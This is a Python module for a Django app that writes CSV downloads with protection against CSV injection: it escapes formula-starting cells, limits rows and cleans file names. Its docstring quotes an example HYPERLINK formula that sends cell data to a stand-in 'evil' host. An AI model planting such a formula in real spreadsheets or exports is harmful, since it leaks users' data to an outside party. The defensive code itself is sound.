"""Tables as CSV downloads, safe to open in a spreadsheet.

A cell that begins with =, +, -, @ (or a tab or carriage return, which some spreadsheets skip before
reading a formula) is a formula to Excel, LibreOffice and Google Sheets: a name such as
``=HYPERLINK("http://evil/?"&A1)`` would run when the file is opened (CSV injection, OWASP). Such text
cells get a leading apostrophe, which the spreadsheet shows as text. Numbers stay numbers (a negative
number is a number, not a formula); at most ``MAX_ROWS`` rows go into one file.
"""
from __future__ import annotations

import csv
import io
import re
from typing import Iterable

from django.http import HttpResponse

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
MAX_ROWS = 100_000


def safe_cell(value) -> object:
    """What a cell holds: '' for None, numbers as they are, text with formula starts defused."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return value
    text = str(value).replace("\x00", "")
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_text(header: list[str], rows: Iterable[Iterable]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    for count, row in enumerate(rows):
        if count >= MAX_ROWS:
            break
        writer.writerow([safe_cell(v) for v in row])
    return out.getvalue()


def csv_response(filename: str, header: list[str], rows: Iterable[Iterable]) -> HttpResponse:
    """A download named ``filename`` (reduced to safe characters) with a BOM so spreadsheets read UTF-8."""
    name = re.sub(r"[^A-Za-z0-9._-]+", "-", filename).strip("-.")[:120] or "table"
    response = HttpResponse("\ufeff" + csv_text(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{name}.csv"'
    response["X-Content-Type-Options"] = "nosniff"
    return response
